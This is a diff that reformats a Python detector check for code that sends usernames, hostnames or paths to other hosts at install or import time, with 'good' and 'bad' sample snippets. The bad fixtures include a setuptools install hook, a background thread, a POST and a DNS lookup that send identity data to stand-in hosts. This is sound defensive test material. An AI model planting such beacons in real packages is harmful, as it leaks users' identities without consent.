@@ -31,12 +31,21 @@ def find(unit: Unit) -> Iterator[Hit]:
         if moment in EARLY and (sending.fixed or sending.drop):
             yield Hit(sending.call, f"This sends {words(host)} to {sending.where} {EARLY[moment]}, without being asked")
         elif sending.fixed and len({label.what for label in host}) >= 2:
-            yield Hit(sending.call, f"This sends {words(host)} to {sending.where}: it reports who runs it, and where", severity=None if sending.drop else Severity.MEDIUM)
+            yield Hit(
+                sending.call,
+                f"This sends {words(host)} to {sending.where}: it reports who runs it, and where",
+                severity=None if sending.drop else Severity.MEDIUM,
+            )
         elif sending.drop and sending.how == "DNS look-ups":
-            yield Hit(sending.call, f"This looks up a name that contains {words(host)}: the owner of the zone learns it")
+            yield Hit(
+                sending.call, f"This looks up a name that contains {words(host)}: the owner of the zone learns it"
+            )
     for command in unit.fact(commands):
         if when(command.call, unit) == "install" and command.shell and running.SEND_TOOL.search(command.text):
-            yield Hit(command.call, "This command sends data to another host while the package is installed, without being asked")
+            yield Hit(
+                command.call,
+                "This command sends data to another host while the package is installed, without being asked",
+            )
 
 
 CHECK = Check(
@@ -48,16 +57,35 @@ CHECK = Check(
     find=find,
     fix="Send nothing at installation or import; make telemetry opt-in and leave names of users and hosts out of it.",
     bad=(
-        Bad("from setuptools import setup\nfrom setuptools.command.install import install\nimport os, urllib.request\n\nclass I(install):\n    def run(self):\n        install.run(self)\n        urllib.request.urlopen('https://p.example.invalid/?h=' + os.uname().nodename)  # finding\n\nsetup(name='demo', version='9.9.9', cmdclass={'install': I})\n"),
-        Bad("import threading, getpass, urllib.parse, urllib.request\n\ndef _b():\n    q = urllib.parse.urlencode({'u': getpass.getuser(), 'p': __file__})\n    urllib.request.urlopen('http://198.51.100.3/i?' + q, timeout=3)  # finding\n\nthreading.Thread(target=_b).start()\n"),
-        Bad("import requests, os, platform\n\ndef report():\n    requests.post('https://d.example.invalid/w', json={'c': f'{os.getlogin()} {platform.node()} {os.getcwd()}'})  # finding\n"),
-        Bad("import socket, getpass\n\ndef ping():\n    socket.gethostbyname(f'{getpass.getuser()}.z.example.invalid')  # finding\n"),
+        Bad(
+            "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, urllib.request\n\nclass I(install):\n    def run(self):\n        install.run(self)\n        urllib.request.urlopen('https://p.example.invalid/?h=' + os.uname().nodename)  # finding\n\nsetup(name='demo', version='9.9.9', cmdclass={'install': I})\n"
+        ),
+        Bad(
+            "import threading, getpass, urllib.parse, urllib.request\n\ndef _b():\n    q = urllib.parse.urlencode({'u': getpass.getuser(), 'p': __file__})\n    urllib.request.urlopen('http://198.51.100.3/i?' + q, timeout=3)  # finding\n\nthreading.Thread(target=_b).start()\n"
+        ),
+        Bad(
+            "import requests, os, platform\n\ndef report():\n    requests.post('https://d.example.invalid/w', json={'c': f'{os.getlogin()} {platform.node()} {os.getcwd()}'})  # finding\n"
+        ),
+        Bad(
+            "import socket, getpass\n\ndef ping():\n    socket.gethostbyname(f'{getpass.getuser()}.z.example.invalid')  # finding\n"
+        ),
     ),
     good=(
-        Good("import platform, requests\n\ndef agent():\n    return f'demo/1.0 ({platform.system()}; Python {platform.python_version()})'\n\ndef get(url):\n    return requests.get(url, headers={'User-Agent': agent()}, timeout=9)\n"),
-        Good("import os, socket, requests\n\ndef register(server):\n    requests.post(f'{server}/agents', json={'host': socket.gethostname(), 'user': os.getlogin()}, timeout=9)\n"),
-        Good("import logging, socket\nlog = logging.getLogger(__name__)\nlog.info('running on %s', socket.gethostname())\n"),
+        Good(
+            "import platform, requests\n\ndef agent():\n    return f'demo/1.0 ({platform.system()}; Python {platform.python_version()})'\n\ndef get(url):\n    return requests.get(url, headers={'User-Agent': agent()}, timeout=9)\n"
+        ),
+        Good(
+            "import os, socket, requests\n\ndef register(server):\n    requests.post(f'{server}/agents', json={'host': socket.gethostname(), 'user': os.getlogin()}, timeout=9)\n"
+        ),
+        Good(
+            "import logging, socket\nlog = logging.getLogger(__name__)\nlog.info('running on %s', socket.gethostname())\n"
+        ),
         Good("import socket\n\ndef own_address():\n    return socket.gethostbyname(socket.gethostname())\n"),
     ),
-    misses=(Miss("import os, requests\nrequests.post('https://d.example.invalid', json={'v': os.environ['USER_DISPLAY']})  # finding\n", why="only the usual variables are known to name a person"),),
+    misses=(
+        Miss(
+            "import os, requests\nrequests.post('https://d.example.invalid', json={'v': os.environ['USER_DISPLAY']})  # finding\n",
+            why="only the usual variables are known to name a person",
+        ),
+    ),
 )
